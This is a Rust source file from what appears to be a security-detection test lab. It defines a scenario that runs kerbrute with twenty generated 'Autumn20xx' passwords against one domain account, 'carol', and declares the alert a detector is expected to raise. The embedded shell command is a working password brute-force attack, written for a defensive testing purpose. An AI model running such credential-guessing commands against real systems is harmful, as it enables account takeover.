//! Brute force with kerbrute (impacket's Kerberos stack), from a list of passwords.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "brute-kerbrute",
    "Twenty passwords tried on one account (kerbrute)",
    Tool::python("kerbrute", "kerbrute"),
    &[Expected {
        external_id: 2023,
        source: ATTACKER,
        account: None,
        targets: &["carol@hawk.example"],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    lab.host("attacker")?.script(
        r#"seq -f 'Autumn20%g' 20 > passwords
           kerbrute -user carol -passwords passwords -domain "$DOMAIN" -dc-ip "$DC" \
               -no-save-ticket | grep 'Valid user => carol'"#,
    )?;
    Ok(())
}
